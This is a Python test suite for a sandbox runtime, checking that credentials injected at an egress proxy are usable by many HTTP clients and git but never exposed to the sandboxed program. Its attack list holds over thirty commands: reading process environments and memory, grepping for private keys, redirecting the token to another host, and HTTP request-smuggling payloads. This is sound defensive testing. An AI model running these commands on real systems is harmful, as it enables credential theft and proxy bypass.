"""Secrets that never enter: programs of all kinds use them at their host, and none learns them."""

import asyncio
import importlib.util
from base64 import b64encode
from collections.abc import AsyncIterator, Iterator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from urllib.parse import quote

import h11
import pytest
import typing_extensions

from sandyard.runtime.local.server.options import LocalOptions
from sandyard.runtime.model import Files, IsolationMode, Program, Repository, RunId
from sandyard.runtime.secrets_model import NO_SECRETS
from tests.integration.runtime.egress.test_networks import Machine
from tests.support.runtime.git_server import TOKEN, git_server
from tests.support.runtime.local_runtime import LocalRuntime
from tests.support.runtime.programs import LIMITS, MEGABYTE, end_all, new_run_id
from tests.support.servers.certificates import Certificate, make_certificate
from tests.support.servers.injected import HOST, PLACEHOLDER, VALUE, bound, secrets_of
from tests.support.servers.own_names import OwnNames, with_own_names

_LIMITS = replace(LIMITS, memory_bytes=1024 * MEGABYTE, processes=64)
_OTHER = "other.test"
_PACKAGES = (
    *("aiohappyeyeballs", "aiohttp", "aiosignal", "attr", "frozenlist", "idna", "multidict"),
    *("propcache", "yarl", "requests", "urllib3", "charset_normalizer", "certifi", "httpx"),
    *("httpcore", "h11", "anyio", "sniffio"),
)
_BEARER = f"Authorization: Bearer {PLACEHOLDER}"
_FORMS = (VALUE, quote(VALUE, safe=""), b64encode(f"user:{VALUE}".encode()).decode())
_RAW = b"""
import socket, ssl, sys
name, port, sni, *pieces = sys.argv[1:]
made = socket.create_connection((name, int(port)))
if sni:
    made = ssl.create_default_context().wrap_socket(made, server_hostname=sni)
made.settimeout(5)
try:
    for piece in pieces:
        made.sendall(piece.encode().decode("unicode_escape").encode("latin-1"))
    while data := made.recv(65536):
        sys.stdout.buffer.write(data)
except OSError as error:
    print(error)
"""
_NO_PROXY = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY NODE_USE_ENV_PROXY"


def libraries() -> Iterator[tuple[str, bytes]]:
    """HTTP clients as files of a machine, by path."""
    for package in _PACKAGES:
        found = importlib.util.find_spec(package)
        if found is None or found.origin is None:
            continue
        folder = Path(found.origin).parent
        for file in folder.rglob("*"):
            if file.suffix in (".py", ".pem"):
                yield f"lib/{package}/{file.relative_to(folder)}", file.read_bytes()
    yield "lib/typing_extensions.py", Path(typing_extensions.__file__).read_bytes()


@dataclass(slots=True)
class Api:
    """A host by TLS for two names, which knows its key, and answers with what it was sent but not
    the key itself; at `/echo` with that too."""

    port: int = 0
    seen: list[str] = field(default_factory=list)
    """All that it was sent, in letters."""

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await self._serve(reader, writer)
        except (OSError, EOFError, h11.RemoteProtocolError):
            writer.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        http = h11.Connection(h11.SERVER)
        request: h11.Request | None = None
        while True:
            event = http.next_event()
            if event is h11.NEED_DATA:
                http.receive_data(await reader.read(65536))
            elif isinstance(event, h11.Request):
                request = event
            elif isinstance(event, h11.EndOfMessage) and request is not None:
                status, headers, body = self._answer(request)
                headers.append(("Content-Length", str(len(body))))
                writer.write(http.send(h11.Response(status_code=status, headers=headers)) or b"")
                writer.write(http.send(h11.Data(data=body)) or b"")
                writer.write(http.send(h11.EndOfMessage()) or b"")
                await writer.drain()
                if http.our_state is not h11.DONE:
                    break
                http.start_next_cycle()
            elif isinstance(event, h11.ConnectionClosed):
                break
        writer.close()

    def _answer(self, request: h11.Request) -> tuple[int, list[tuple[str, str]], bytes]:
        target = request.target.decode("latin-1")
        lines = [f"{name.decode()}: {text.decode('latin-1')}" for name, text in request.headers]
        sent = "\n".join([target, *lines])
        self.seen.append(sent)
        if target.startswith("/redirect"):
            return 302, [("Location", f"https://{_OTHER}:{self.port}/")], b""
        if target.startswith("/echo"):
            return 200, [], sent.encode()
        return 200, [], b"welcome" if any(each in sent for each in _FORMS) else b"who are you?"


@dataclass(slots=True)
class Inside(Machine):
    runtime: LocalRuntime
    run_id: RunId
    api: Api
    certificate: Certificate

    @property
    def url(self) -> str:
        return f"https://{HOST}:{self.api.port}"


@asynccontextmanager
async def machine(
    folder: Path, names: OwnNames, *, isolation: IsolationMode = "bubblewrap"
) -> AsyncIterator[Inside]:
    names.set({HOST: "127.0.0.1", _OTHER: "127.0.0.1"})
    certificate = make_certificate(folder, f"DNS:{HOST}", f"DNS:{_OTHER}")
    api = Api()
    async with AsyncExitStack() as stack:
        serving = asyncio.start_server(api.serve, "127.0.0.1", 0, ssl=certificate.serving())
        server = await stack.enter_async_context(await serving)
        api.port = server.sockets[0].getsockname()[1]
        options = LocalOptions(
            egress_networks=("127.0.0.0/8",), isolation=isolation, ca_files=(certificate.file,)
        )
        runtime = LocalRuntime(folder / "runtime", options)
        stack.push_async_callback(end_all, runtime)
        secrets = secrets_of(folder, bound(api.port, query=("key",)))
        program = Program(
            Files(
                {
                    "Procfile": b"web: exec python3 -m http.server $PORT\n",
                    "raw.py": _RAW,
                    **dict(libraries()),
                }
            ),
            environment={"API_KEY": PLACEHOLDER},
            network="internet",
            secrets=replace(secrets, trusted=""),
        )
        run_id = new_run_id()
        await runtime.start(run_id, program, _LIMITS)
        yield Inside(runtime, run_id, api, certificate)


def _python(code: str) -> str:
    return f"PYTHONPATH=lib python3 -c '{code}'"


def clients(url: str) -> dict[str, str]:
    headers = f'{{"Authorization": "Bearer {PLACEHOLDER}"}}'
    aiohttp = f"""
import aiohttp, asyncio
async def main():
    async with aiohttp.ClientSession(trust_env=True) as session:
        async with session.get("{url}/", headers={headers}) as answer:
            print(await answer.text())
asyncio.run(main())
"""
    fetch = f"fetch(process.argv[1], {{headers: {headers}}}).then(r => r.text()).then(console.log)"
    return {
        "curl": f"curl -sS -H '{_BEARER}' {url}/",
        "curl with basic": f"curl -sS -u user:{PLACEHOLDER} {url}/",
        "curl with query": f"curl -sS '{url}/?key={PLACEHOLDER}'",
        "requests": _python(
            f'import requests as r; print(r.get("{url}/", headers={headers}).text)'
        ),
        "httpx": _python(f'import httpx; print(httpx.get("{url}/", headers={headers}).text)'),
        "aiohttp": _python(aiohttp),
        "urllib": _python(
            f'import urllib.request as u; r = u.Request("{url}/", headers={headers});'
            "print(u.urlopen(r).read().decode())"
        ),
        "fetch": f"node -e '{fetch}' {url}/",
    }


async def test_clients_of_all_kinds_use_a_secret(tmp_path: Path) -> None:
    async def scenario(names: OwnNames) -> None:
        async with machine(tmp_path, names) as inside:
            for way in ("true", _NO_PROXY):
                for name, line in clients(inside.url).items():
                    said = await inside.run(f"{way}; {line}")
                    assert said == "welcome", f"{name}: {said}"
            await inside.runtime.set_secrets(inside.run_id, NO_SECRETS)
            said = await inside.run(f"curl -sSk -H '{_BEARER}' {inside.url}/")
            assert said == "who are you?"

    await with_own_names(tmp_path, scenario)


def attacks(inside: Inside) -> dict[str, str]:
    """Ways to learn or redirect the value, each a command line."""
    port, url = inside.api.port, inside.url
    curl, other = f"curl -sS -m 10 -H '{_BEARER}'", f"https://{_OTHER}:{port}/echo"
    end = "Connection: close\\r\\n\\r\\n"
    get = f"GET /echo HTTP/1.1\\r\\nHost: {HOST}\\r\\n{_BEARER}\\r\\n"
    post = get.replace("GET", "POST")

    def raw(*pieces: str, name: str = HOST, sni: str = HOST) -> str:
        return f"python3 raw.py {name} {port} '{sni}' " + " ".join(f"'{each}'" for each in pieces)

    return {
        "its own variables": "env; cat /proc/self/environ",
        "all processes": "cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'",
        "the memory of others": "for p in /proc/[0-9]*; do head -c 4096 $p/mem; done",
        "files": "grep -rIs --exclude-dir=lib -e sk-live -e 'PRIVATE KEY' /run /etc /workspace",
        "the proxy's process": "ls -l /proc/*/fd /proc/*/root 2>&1",
        "a core": "ulimit -c unlimited; sh -c 'kill -SEGV $$'; cat core* 2>&1",
        "an echo": f"{curl} {url}/echo",
        "an echo, compressed": f"{curl} --compressed {url}/echo",
        "an echo with basic": f"curl -sS -u user:{PLACEHOLDER} {url}/echo",
        "an echo of the query": f"curl -sS '{url}/echo?key={PLACEHOLDER}'",
        "another parameter": f"curl -sS '{url}/echo?q={PLACEHOLDER}'",
        "another header": f"curl -sS -H 'Origin: https://{PLACEHOLDER}' {url}/echo",
        "a cookie": f"curl -sS -b a={PLACEHOLDER} {url}/echo",
        "the path": f"curl -sS {url}/echo/{PLACEHOLDER}",
        "the body": f"curl -sS -d {PLACEHOLDER} {url}/echo",
        "TRACE": f"{curl} -X TRACE {url}/echo",
        "a redirect": f"{curl} -L --location-trusted {url}/redirect",
        "another host": f"{curl} {other}",
        "another host, at its address": f"{curl} --connect-to ::{HOST}:{port} {other}",
        "another host, by Host": f"{curl} -H 'Host: {_OTHER}' {url}/echo",
        "another host, by SNI": raw(get + end, sni=_OTHER),
        "another host, by a port": raw(get + end, name=_OTHER),
        "the bare address": raw(get + end, name="127.0.0.1"),
        "plain HTTP": f"{curl} http://{HOST}:{port}/echo",
        "plain HTTP by the proxy": f"{curl} -x http://127.0.0.1:3128 http://{HOST}:{port}/echo",
        "a tunnel to another name": f"{curl} -x http://127.0.0.1:3128 --connect-to "
        f"{HOST}:{port}:{_OTHER}:{port} {url}/echo",
        "a second request to another": raw(get + "\\r\\n", get.replace(HOST, _OTHER) + end),
        "two lengths": raw(post + "Content-Length: 4\\r\\nContent-Length: 0\\r\\n" + end + get),
        "length and chunks": raw(
            post + f"Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n{end}0\\r\\n\\r\\n{get}"
        ),
        "odd chunks": raw(post + f"Transfer-Encoding:\\x0bchunked\\r\\n{end}0\\r\\n\\r\\n{get}"),
        "a request in chunks": raw(
            post
            + f"Transfer-Encoding: chunked\\r\\n{end}5\\r\\nhello\\r\\n0\\r\\n{_BEARER}\\r\\n\\r\\n"
        ),
        "a folded header": raw(get + f"X: a\\r\\n {_BEARER}\\r\\n" + end),
        "a bare line feed": raw(
            get + f"X: a\\n{_BEARER.replace('Authorization', 'Origin')}\\r\\n" + end
        ),
        "a header that is dropped": raw(get + f"Connection: authorization\\r\\n{end}"),
        "CONNECT inside": raw(get.replace("GET /echo", f"CONNECT {_OTHER}:443") + end),
        "a whole URL": raw(get.replace("/echo", f"https://{_OTHER}/echo") + end),
        "an upgrade": raw(get + "Connection: upgrade\\r\\nUpgrade: h2c\\r\\n\\r\\n", get + end),
        "HTTP/2": f"{curl} --http2-prior-knowledge {url}/echo",
        "a name of its own": f"{curl} --resolve {HOST}:{port}:198.18.0.2 {url}/echo",
    }


@pytest.mark.parametrize("isolation", ["bubblewrap", "gvisor"])
async def test_no_way_leads_to_the_value(tmp_path: Path, isolation: IsolationMode) -> None:
    async def scenario(names: OwnNames) -> None:
        async with machine(tmp_path, names, isolation=isolation) as inside:
            tried = attacks(inside)
            assert len(tried) >= 30
            if isolation == "gvisor":  # the same proxy: some suffice
                tried = dict(list(tried.items())[:8])
            for name, line in tried.items():
                said = await inside.run(line)
                assert not any(each in said for each in _FORMS), name
                assert "PRIVATE KEY" not in said, name
            assert "welcome" in await inside.run(clients(inside.url)["curl"])
            for sent in inside.api.seen:
                if any(each in sent for each in _FORMS):
                    assert f"host: {HOST}" in sent.lower(), sent
            await _changes_its_address(inside, names)
            report = await inside.runtime.egress_report(inside.run_id)
            assert report.secrets[0].requests > 0
            await _is_in_no_file(inside)

    await with_own_names(tmp_path, scenario)


async def _changes_its_address(inside: Inside, names: OwnNames) -> None:
    """A server that gets the name, but has no certificate for it, gets nothing."""
    got = bytearray()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        got.extend(await reader.read(65536))
        writer.close()

    folder = inside.certificate.file.parent / "impostor"
    folder.mkdir()
    impostor = make_certificate(folder, f"DNS:{HOST}")
    serving = asyncio.start_server(serve, "127.0.0.2", inside.api.port, ssl=impostor.serving())
    async with await serving:
        names.set({HOST: "127.0.0.2"})
        said = await inside.run(clients(inside.url)["curl"])
        assert "could not be reached by TLS" in said
        assert not got


async def _is_in_no_file(inside: Inside) -> None:
    """Of the host: neither while it runs, nor in what is kept of it."""
    folder = inside.runtime.folder_of(inside.run_id).path.parent

    def has_value() -> list[Path]:
        files = [each for each in folder.rglob("*") if each.is_file() and not each.is_symlink()]
        return [each for each in files if VALUE.encode() in each.read_bytes()]

    assert await asyncio.to_thread(has_value) == []
    await inside.runtime.stop(inside.run_id)
    assert await asyncio.to_thread(has_value) == []


async def test_git_uses_a_secret_over_https(tmp_path: Path) -> None:
    """And a private repository is cloned at a start, with a token that never enters."""

    async def scenario(names: OwnNames) -> None:
        names.set({HOST: "127.0.0.1"})
        certificate = make_certificate(tmp_path, f"DNS:{HOST}")
        with git_server(tmp_path, certificate) as git:
            files = {"Procfile": b"web: exec python3 -m http.server $PORT\n"}
            port = int(git.add("secret", files).split(":")[2].split("/")[0])
            secret = replace(bound(port), value=TOKEN)
            url = f"https://{HOST}:{port}/secret/.git"
            options = LocalOptions(
                egress_networks=("127.0.0.0/8",),
                allowed_networks=("127.0.0.0/8",),
                ca_files=(certificate.file,),
            )
            runtime = LocalRuntime(tmp_path / "runtime", options)
            run_id = new_run_id()
            try:
                source = Repository(url, token=PLACEHOLDER)
                secrets = replace(secrets_of(tmp_path, secret), trusted="")
                program = Program(source, network="internet", secrets=secrets)
                await runtime.start(run_id, program, _LIMITS)
                inside = Machine(runtime, run_id)
                with_token = url.replace("https://", f"https://user:{PLACEHOLDER}@")
                said = await inside.run(f"git clone -q {with_token} again && ls again")
                assert said == "Procfile"
                assert TOKEN not in await inside.run("grep -rs ghp- . /proc/*/environ; true")
            finally:
                await end_all(runtime)

    await with_own_names(tmp_path, scenario)
